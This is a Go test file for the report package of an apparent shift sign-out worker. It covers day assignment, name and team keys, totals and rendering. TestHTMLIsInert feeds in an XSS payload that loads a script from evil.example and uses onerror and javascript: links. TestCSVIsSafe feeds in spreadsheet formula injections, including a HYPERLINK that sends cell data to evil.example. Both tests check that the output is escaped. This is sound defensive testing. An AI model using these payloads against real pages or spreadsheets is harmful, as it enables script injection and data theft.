package report_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/forcelogout/forcelogout/messages"
	"github.com/forcelogout/forcelogout/worker/client"
	"github.com/forcelogout/forcelogout/worker/report"
)

func at(text string) time.Time {
	t, err := time.Parse(time.RFC3339, text)
	if err != nil {
		panic(err)
	}
	return t
}

// TestWhichDay: a result is on the day of its planned time; without one of its first
// call, without that of its end, and at last of the time at which it was stored.
func TestWhichDay(t *testing.T) {
	t.Parallel()
	const on, before, after = "2026-11-25T12:00:00Z", "2026-11-20T12:00:00Z", "2026-11-26T12:00:00Z"
	for name, c := range map[string]struct {
		past client.Past
		is   bool
	}{
		"planned, ended the next day":     {client.Past{Result: messages.Result{NotBefore: at(on), StartedAt: at(on), FinishedAt: at(after)}}, true},
		"planned, withdrawn days before":  {client.Past{Result: messages.Result{NotBefore: at(on), FinishedAt: at(before)}}, true},
		"planned for another day":         {client.Past{Result: messages.Result{NotBefore: at(after), StartedAt: at(on), FinishedAt: at(on)}}, false},
		"at once, called that day":        {client.Past{Result: messages.Result{IssuedAt: at(before), StartedAt: at(on), FinishedAt: at(after)}}, true},
		"of an old version, days ahead":   {client.Past{Result: messages.Result{IssuedAt: at(before), StartedAt: at(on), FinishedAt: at(on)}}, true},
		"never called":                    {client.Past{Result: messages.Result{IssuedAt: at(before), FinishedAt: at(on)}}, true},
		"no time at all":                  {client.Past{StoredAt: at(on)}, true},
		"no time, stored on another day":  {client.Past{StoredAt: at(before)}, false},
		"the first moment of the day":     {client.Past{Result: messages.Result{NotBefore: at("2026-11-24T23:00:00Z")}}, true},
		"the last moment of the day":      {client.Past{Result: messages.Result{NotBefore: at("2026-11-25T22:59:59Z")}}, true},
		"the moment before the day":       {client.Past{Result: messages.Result{NotBefore: at("2026-11-24T22:59:59Z")}}, false},
		"the moment after the day":        {client.Past{Result: messages.Result{NotBefore: at("2026-11-25T23:00:00Z")}}, false},
		"unreadable, but of another time": {client.Past{Err: io.EOF, StoredAt: at(before)}, false},
	} {
		t.Run(name, func(t *testing.T) {
			r := report.Of(report.Query{Day: day(t, "2026-11-25", "", "Europe/Madrid")}, c.past)
			if is := len(r.Rows) == 1; is != c.is || r.Unreadable != 0 {
				t.Errorf("%d rows, %d unreadable", len(r.Rows), r.Unreadable)
			}
		})
	}
}

// TestKeys: name, team and shift are found as people write them, and where they are told
// to be.
func TestKeys(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		meta map[string]string
		keys report.Keys
		want string
	}{
		{map[string]string{"Agent Name": "Ana", "TEAM": "Nord", "shift_id": "S-18"}, report.Keys{}, "Ana/Nord/S-18"},
		{map[string]string{"name": "Ana", "agent": "30012", "group": "G", "team": "T"}, report.Keys{}, "Ana/T/"},
		{map[string]string{"name": "", "fullName": "Ana"}, report.Keys{}, "Ana//"},
		{map[string]string{"Mitarbeiter": "Ana", "name": "no"}, report.Keys{Name: "mitarbeiter"}, "Ana//"},
		{map[string]string{"name": "Ana"}, report.Keys{Name: "nobody"}, "//"},
		{map[string]string{"na-me": "B", "Name": "A"}, report.Keys{}, "A//"},
		{nil, report.Keys{}, "//"},
	} {
		row := report.NewRow(messages.Result{Meta: c.meta}, time.Time{}, c.keys)
		if got := row.Name + "/" + row.Team + "/" + row.Shift; got != c.want {
			t.Errorf("%v: %s, want %s", c.meta, got, c.want)
		}
	}
}

// TestWhy: the cause and the sentence of a result are said, and nothing twice.
func TestWhy(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		cause      messages.Cause
		text, want string
	}{
		{"", "", ""},
		{"", "odd", "odd"},
		{messages.CauseRefused, "the gateway refused: 000-002", "the gateway refused: 000-002"},
		{messages.CauseNoSession, "wrong password", "no inspector was signed in: wrong password"},
		{messages.CauseInvalid, "", "the order had a mistake"},
		{"on_leave", "", "on leave"},
	} {
		if got := (report.Row{Result: messages.Result{Cause: c.cause, Error: c.text}}).Why(); got != c.want {
			t.Errorf("%s, %s: %q, want %q", c.cause, c.text, got, c.want)
		}
	}
}

// odd are results as nobody wants them: of two VCCs with shifts of one name, of the
// future, with what an old version left out.
func odd() []messages.Result {
	when := at("2026-11-25T17:00:00Z")
	return []messages.Result{
		{ID: "a", VCC: "acme", WorkNo: "30001", Outcome: messages.OutcomeSignedOut, NotBefore: when, FinishedAt: when, Meta: map[string]string{"shift": "late"}},
		{ID: "a", VCC: "zeta", WorkNo: "30001", Outcome: messages.OutcomeFailed, NotBefore: when, FinishedAt: when, Meta: map[string]string{"shift": "late"}},
		{ID: "b", VCC: "acme", WorkNo: "30001", Outcome: "was_moved", Cause: "on_leave", NotBefore: when, FinishedAt: when},
		{ID: "c", Outcome: "", FinishedAt: when},
	}
}

// TestTotals: what is counted adds up, by VCC and shift, also outcomes from the future.
func TestTotals(t *testing.T) {
	t.Parallel()
	r := reportOf(t, report.Query{Day: day(t, "2026-11-25", "", "UTC")}, odd()...)
	if sum := r.Total(); sum.All != 4 || sum.Classes[report.Done] != 1 || sum.Classes[report.Missed] != 3 || r.Agents() != 3 {
		t.Errorf("%+v of %d agents", sum, r.Agents())
	}
	var shifts []string
	for _, s := range r.Shifts() {
		shifts = append(shifts, fmt.Sprintf("%s/%s %d", s.VCC, s.Shift, s.All))
	}
	if want := []string{"/ 1", "acme/late 1", "acme/ 1", "zeta/late 1"}; !slices.Equal(shifts, want) {
		t.Errorf("%q, want %q", shifts, want)
	}
	if got, want := r.Outcomes(), []messages.Outcome{"signed_out", "failed", "", "was_moved"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	r = reportOf(t, report.Query{Day: r.Day, VCC: "acme"}, odd()...)
	if len(r.Rows) != 2 {
		t.Errorf("%d rows of one VCC", len(r.Rows))
	}
}

// TestOddRenderings: every rendering takes a report of odd results.
func TestOddRenderings(t *testing.T) {
	t.Parallel()
	results := append(odd(), messages.Result{ID: "far", VCC: "acme", WorkNo: "1", NotBefore: at("2026-11-25T00:00:00Z"), FinishedAt: at("9999-12-31T23:59:59Z")},
		messages.Result{ID: "old", VCC: "acme", WorkNo: "1", NotBefore: at("2026-11-25T00:00:00Z"), FinishedAt: at("0001-01-02T00:00:00Z")})
	for date, zoneName := range map[string]string{"2026-11-25": "Asia/Kathmandu", "2026-10-25": "Europe/Madrid", "2026-03-29": "Europe/Madrid"} {
		d := day(t, date, "", zoneName)
		for i := range results {
			results[i].NotBefore = d.From.Add(time.Duration(i) * 5 * time.Hour)
		}
		results[0].FinishedAt, results[1].FinishedAt = d.From, d.To.Add(-time.Nanosecond)
		r := reportOf(t, report.Query{Day: d}, results...)
		for name, render := range map[string]func(io.Writer, report.Report) error{"html": report.HTML, "csv": report.CSV, "json": report.JSON} {
			var out bytes.Buffer
			if err := render(&out, r); err != nil {
				t.Errorf("%s, %s: %v", date, name, err)
			}
			if strings.Contains(out.String(), "NaN") || strings.Contains(out.String(), "Inf") {
				t.Errorf("%s, %s: no number", date, name)
			}
		}
	}
}

// TestHTMLIsInert: a page asks nobody for anything and runs nothing, whatever stands in
// the results, and its markup is closed.
func TestHTMLIsInert(t *testing.T) {
	t.Parallel()
	const evil = `"><script src=//evil.example></script><img src=x onerror=alert(1)>{{.}}</title></style></svg>` + "\x00\u202e" + `<a href="javascript:alert(1)">`
	when := at("2026-11-25T17:00:00Z")
	r := reportOf(t, report.Query{VCC: evil, Day: day(t, "2026-11-25", "", "UTC")}, messages.Result{
		ID: evil, VCC: evil, WorkNo: evil, Inspector: evil, Reason: evil, RequestedBy: evil, Outcome: messages.Outcome(evil), Cause: messages.Cause(evil),
		Error: evil, Message: evil, Retcode: evil, Worker: evil, Meta: map[string]string{"name": evil, "team": evil, "shift": evil}, NotBefore: when, FinishedAt: when,
	})
	if len(r.Rows) != 1 {
		t.Fatal("no row")
	}
	var out bytes.Buffer
	if err := report.HTML(&out, r); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(out.String(), "\u202e\x00") {
		t.Error("a text turns the direction, or has a NUL")
	}
	doc, err := html.Parse(&out)
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if slices.Contains([]string{"script", "img", "a", "iframe", "link", "object", "image", "use", "foreignObject"}, n.Data) {
			t.Errorf("there is an element %s", n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || slices.Contains([]string{"src", "href", "action", "srcset", "style"}, a.Key) ||
				strings.Contains(a.Val, "url(") && !strings.HasPrefix(a.Val, "url(#") {
				t.Errorf("%s has %s=%q", n.Data, a.Key, a.Val)
			}
		}
	}
}

// TestHTMLIsAccessible: each table has a caption and headed columns, and the drawing says
// what it shows.
func TestHTMLIsAccessible(t *testing.T) {
	t.Parallel()
	r := reportOf(t, report.Query{Day: day(t, "2026-11-25", "", "Europe/Madrid")}, evening(zone(t, "Europe/Madrid"))...)
	var out bytes.Buffer
	if err := report.HTML(&out, r); err != nil {
		t.Fatal(err)
	}
	page := html.UnescapeString(out.String())
	tables := strings.Count(page, "<table")
	if tables < 4 || strings.Count(page, "<caption>") != tables {
		t.Errorf("%d tables, %d captions", tables, strings.Count(page, "<caption>"))
	}
	if bare := regexp.MustCompile(`<th(>| class="[^"]*">)`).FindAllString(page, -1); bare != nil {
		t.Errorf("headers without a scope: %q", bare)
	}
	if strings.Count(page, "<svg") != strings.Count(page, `role="img"`) || !strings.Contains(page, "59 ended between 18:00 and 00:15 +1d, 5 of them not done") {
		t.Error("a drawing does not say what it shows")
	}
}

// TestCSVIsSafe: no cell from outside is a formula for a spreadsheet, and each comes back
// as it was, but for the apostrophe.
func TestCSVIsSafe(t *testing.T) {
	t.Parallel()
	for _, evil := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "－1", `=HYPERLINK("http://evil.example?"&A1,"x")`} {
		row := report.NewRow(messages.Result{
			ID: evil, VCC: evil, WorkNo: evil, Inspector: evil, Reason: evil, RequestedBy: evil, Outcome: messages.Outcome(evil), Cause: messages.Cause(evil),
			Error: evil, Message: evil, Retcode: evil, Meta: map[string]string{"name": evil, "team": evil, "shift": evil},
		}, time.Time{}, report.Keys{})
		var out bytes.Buffer
		w := csv.NewWriter(&out)
		if err := w.Write(row.Cells(time.UTC, "more")); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		cells, err := csv.NewReader(&out).Read()
		if err != nil || len(cells) != len(report.Columns("more")) {
			t.Fatalf("%d cells for %d columns, %v", len(cells), len(report.Columns("more")), err)
		}
		for i, cell := range cells {
			if begin := strings.TrimLeft(cell, " \u00a0"); begin != "" && strings.ContainsAny(begin[:1], "=+-@\t\r\n") {
				t.Errorf("column %s: %q", report.Columns("more")[i], cell)
			}
			if strings.HasSuffix(cell, "1") && !strings.HasPrefix(cell, "'") {
				t.Errorf("column %s: %q", report.Columns("more")[i], cell)
			}
		}
	}
}
